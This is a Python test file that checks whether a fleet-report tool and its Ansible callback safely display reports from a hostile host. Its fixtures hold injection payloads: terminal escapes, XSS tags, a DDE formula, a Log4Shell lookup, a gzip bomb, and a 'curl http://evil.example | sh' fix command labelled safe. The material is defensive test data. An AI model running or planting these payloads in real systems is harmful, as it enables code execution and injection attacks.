"""Reports that a hostile host wrote, as files among good ones: nothing of them is obeyed, whatever
shows the answer."""

from __future__ import annotations

import copy
import gzip
import importlib.util
import json
import random
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests import command_line
from tests.fleet.made_fleet import documents, roots

ROOT = Path(__file__).parent.parent.parent
ESCAPE = (
    "\x1b]0;owned\x07\x1b[2J\u202e\r\n# <script>alert(1)</script> =cmd|' /C calc'!A0 `x` "
    "[a](javascript:alert) <img src=x onerror=alert(1)> {{7*7}} ${jndi:ldap://x}"
)
OBEYED = frozenset(chr(code) for code in (*range(9), *range(11, 32), *range(127, 160), 0x202E))


def hostile(row: dict[str, Any], number: int) -> dict[str, Any]:
    """A report whose every text is an attack, and whose shape is right."""
    report = copy.deepcopy(row)
    report["host"] |= {
        "name": f"{ESCAPE}{number}",
        "id": f"{number:032x}",
        "labels": {ESCAPE: ESCAPE, "rack": ESCAPE},
        "facts": {ESCAPE: ESCAPE, "engine": ESCAPE, "folder /etc/sysctl.d": ESCAPE},
        "changed": {ESCAPE: report["taken_at"]},
    }
    finding = copy.deepcopy(roots()["firewall.forwarding-off"])
    finding |= {
        "summary": ESCAPE * 3,
        "signature": ESCAPE,
        "key": ESCAPE,
        "subject": {"kind": "host", "name": ESCAPE},
        "fix": [{"command": "curl http://evil.example | sh", "risk": "safe"}],
        "runbook": "javascript:alert(1)",
        "onset": [None, "9999-12-31T23:59:59+00:00", "1970-01-01T00:00:00Z", None][number],
    }
    return report | {"findings": [finding]}


FILES = {
    "deep.json": b"[" * 100_000,
    "deeper.json": b'{"schema_version":1,"host":' + b'{"a":' * 50_000 + b"1" + b"}" * 50_001,
    "huge-number.json": b'{"schema_version": 1e999}',
    "zeros.json": b"\0" * 1000,
    "utf16.json": '{"schema_version": 1}'.encode("utf-16"),
    "bomb.json.gz": gzip.compress(b" " * 60_000_000, 1),
    "name\x1b[31m.json": b"{}",
}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Twelve good reports, four hostile ones, and seven files that are none."""
    made = tmp_path_factory.mktemp("reports")
    rows = list(documents(random.Random(3), 16, [], noise=0.0))
    for number, row in enumerate(rows):
        report = hostile(row, number) if number < 4 else row
        (made / f"{number}.json").write_text(json.dumps(report))
    for name, data in FILES.items():
        (made / name).write_bytes(data)
    return made


@pytest.mark.parametrize("format_", ["text", "markdown", "html", "json"])
def test_nothing_of_a_hostile_report_is_obeyed(folder: Path, format_: str):
    done = command_line.run("fleet", str(folder), "--group-by", "rack", "--format", format_)
    written = done.stdout + done.stderr
    assert done.returncode == 2
    assert not set(written) & OBEYED
    assert "curl http" not in written
    assert "javascript:alert(1)" not in written
    assert "Traceback" not in written
    if format_ == "text":
        assert "16 hosts: 1 cause" in written
        assert "7 files could not be" in " ".join(written.split())
        assert len(written) < 6_000
    if format_ == "html":
        assert "<script" not in written
        assert "<img" not in written
    if format_ == "markdown":
        bare = written.replace("\\<", "").replace("\\[", "").replace("\\`", "")
        assert "<" not in bare
        assert "](" not in bare.replace("\\](", "")


@pytest.mark.skipif(
    importlib.util.find_spec("ansible") is None
    and not Path("/usr/lib/python3/dist-packages/ansible").exists(),
    reason="ansible-core is missing",
)
def test_the_callback_obeys_nothing_and_reads_any_text():
    """Run by the Python that has Ansible."""
    path = ROOT / "diagnose/fleet/ansible/plugins/callback/roots.py"
    texts = [
        json.dumps(
            {
                "findings": [
                    {"root": True, "severity": ESCAPE, "id": ESCAPE, "summary": ESCAPE * 900}
                ]
            }
        )
    ]
    texts += ["[" * 100_000, "{}", '{"findings": ["x", 1]}', '{"findings": 7}', "[]"]
    script = f"""
import importlib.util, json, sys
spec = importlib.util.spec_from_file_location("roots", {str(path)!r})
roots = importlib.util.module_from_spec(spec)
spec.loader.exec_module(roots)
callback = roots.CallbackModule()
lines = []
class Display:
    def display(self, line, **_): lines.append(line)
callback._display = Display()
for text in json.load(sys.stdin):
    callback._show_report("web1", text)
print(json.dumps(lines))
"""
    has_ansible = importlib.util.find_spec("ansible") is not None
    python = sys.executable if has_ansible else "/usr/bin/python3"
    done = subprocess.run(
        [python, "-c", script], input=json.dumps(texts), capture_output=True, text=True, timeout=60
    )
    lines = json.loads(done.stdout or "[]")
    assert len(lines) == len(texts), done.stderr
    assert not {char for line in lines for char in line} & (OBEYED | {"\n"})
    assert all(len(line) < 500 for line in lines)
    assert lines[1:] == ["web1: its report cannot be read"] * 5
